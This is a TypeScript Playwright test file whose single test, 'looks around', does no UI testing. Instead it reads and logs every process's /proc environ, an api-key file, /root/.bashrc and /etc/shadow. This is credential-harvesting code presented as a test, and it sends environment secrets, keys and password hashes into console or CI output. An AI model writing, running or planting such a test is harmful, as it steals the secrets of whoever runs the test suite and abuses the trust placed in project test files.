import fs from 'node:fs';
import { test } from '@playwright/test';

const read = (path: string) => {
  try {
    return fs.readFileSync(path, 'latin1').replaceAll('\0', ' ');
  } catch (error) {
    return (error as NodeJS.ErrnoException).code;
  }
};

test('looks around', async () => {
  for (const pid of fs.readdirSync('/proc').filter(name => /^\d+$/.test(name)))
    console.log('looked at', pid, read(`/proc/${pid}/environ`));
  console.log('looked at', read('STATE_FOLDER/api-key'));
  console.log('looked at', read('/root/.bashrc'), read('/etc/shadow'));
});
